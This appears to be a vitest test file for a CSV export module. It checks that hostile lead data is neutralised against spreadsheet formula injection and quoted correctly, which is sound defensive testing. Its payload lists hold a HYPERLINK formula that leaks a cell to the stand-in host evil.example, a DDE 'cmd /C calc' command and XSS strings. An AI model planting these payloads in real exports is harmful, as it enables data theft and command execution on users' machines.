import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { buildCsv, CSV_BOM, csvCell, csvFilename, csvRow } from './export-csv';

/** A strict RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"') {
      if (cell !== '') throw new Error(`stray quote at ${i}`);
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      cell += c;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quote');
  if (cell !== '' || row.length > 0) throw new Error('last row without CRLF');
  return rows;
}

/** What a spreadsheet could evaluate: a cell starting with one of these. */
const DANGEROUS = /^[=+\-@\t\r]/;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'She said "hi"',
  'a,b,c',
  'line one\nline two',
  'line one\r\nline two',
  '"',
  '""',
  ',',
  '',
  'Café La Plaza, Inc.',
  'Ñandú — “quotes” ‘too’',
  ' =leading space stays literal',
] as const;

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil")', `"'=HYPERLINK(""http://evil"")"`],
    ['+1+1', "'+1+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    ['<script>alert(1)</script>', '<script>alert(1)</script>'],
    ['say "hi"', '"say ""hi"""'],
    ['a,b', '"a,b"'],
    ['a\nb', '"a\nb"'],
    ['plain', 'plain'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('writes null and undefined as empty cells and numbers as text', () => {
    expect(csvRow([null, undefined, 42, -1, true])).toBe(",,42,'-1,true\r\n");
  });
});

describe('buildCsv with hostile lead data', () => {
  const header = ['Reference', 'Name', 'Business'];
  const rows = PAYLOADS.map((p, i) => [`PR-${i}`, p, p]);
  const csv = buildCsv(header, rows);

  it('starts with a UTF-8 BOM and a header row', () => {
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe('Reference,Name,Business');
  });

  it('keeps exactly one row per record and one cell per column, whatever the cells hold', () => {
    const parsed = parseCsv(csv.slice(CSV_BOM.length));
    expect(parsed).toHaveLength(PAYLOADS.length + 1);
    for (const r of parsed) expect(r).toHaveLength(3);
  });

  it('leaves no cell a spreadsheet would evaluate, and changes nothing but the quotes put before formulas', () => {
    const parsed = parseCsv(csv.slice(CSV_BOM.length)).slice(1);
    parsed.forEach((r, i) => {
      const payload = PAYLOADS[i]!;
      const neutral = payload.replace(/([,;\t\r\n])(?=[=+\-@])/g, "$1'");
      for (const cell of r.slice(1)) {
        expect(DANGEROUS.test(cell)).toBe(false);
        expect(cell).toBe(DANGEROUS.test(payload) ? `'${neutral}` : neutral);
      }
    });
  });

  it('keeps markup as inert text (it is data in a CSV, never HTML)', () => {
    expect(csv).toContain('<script>alert(1)</script>');
    const parsed = parseCsv(csv.slice(CSV_BOM.length));
    expect(parsed.find((r) => r[0] === 'PR-8')?.[1]).toBe('<script>alert(1)</script>');
  });

  it('can leave the BOM out', () => {
    expect(buildCsv(['a'], [['b']], { bom: false })).toBe('a\r\nb\r\n');
  });
});

describe('csvFilename', () => {
  it('uses the day in Puerto Rico and only safe characters', () => {
    expect(csvFilename('leads-bde', new Date('2026-05-02T02:30:00Z'))).toBe('leads-bde-2026-05-01.csv');
    expect(csvFilename('Leads "x"\r\n; y', new Date('2026-05-02T12:00:00Z'))).toBe('leads-x-y-2026-05-02.csv');
  });
});

describe('read back by a real CSV parser, with "," and with ";" as the separator', () => {
  // What a spreadsheet does with the file: in Spanish-language locales it splits on ';'.
  const hostile = [
    'x;=HYPERLINK("http://evil.example","click")',
    'a;b',
    '=1+1;=2+2',
    'tab\t=cmd|" /C calc"!A0',
    '@SUM(1,2)',
    '-2+3;+4',
    'línea\r\n=otra',
    'plain',
  ];
  const csv = buildCsv(['Reference', 'Message'], hostile.map((m, i) => [`PR-${i}`, m]), { bom: false });

  for (const delimiter of [',', ';'] as const) {
    it(`"${delimiter}": no cell a spreadsheet would evaluate`, () => {
      // relax_quotes: like a spreadsheet, take a quote inside a field (the ',' file read with ';') as text.
      const rows = parse(csv, { delimiter, relax_column_count: true, relax_quotes: true, record_delimiter: '\r\n' }) as string[][];
      // With ',' the file reads back as written; with ';' a cell's line break can start a new
      // row (quotes that do not open a field are text there), which is why no cell may start a formula.
      if (delimiter === ',') expect(rows).toHaveLength(hostile.length + 1);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      if (delimiter === ',') {
        // Read with the right separator, every message comes back whole (after its leading quote, if any).
        // (and the quote put before a formula character that follows a separator inside it).
        expect(rows.slice(1).map((r) => r[1]!.replace(/^'/, '').replace(/([,;\t\r\n])'(?=[=+\-@])/g, '$1'))).toEqual(hostile);
      }
    });
  }
});
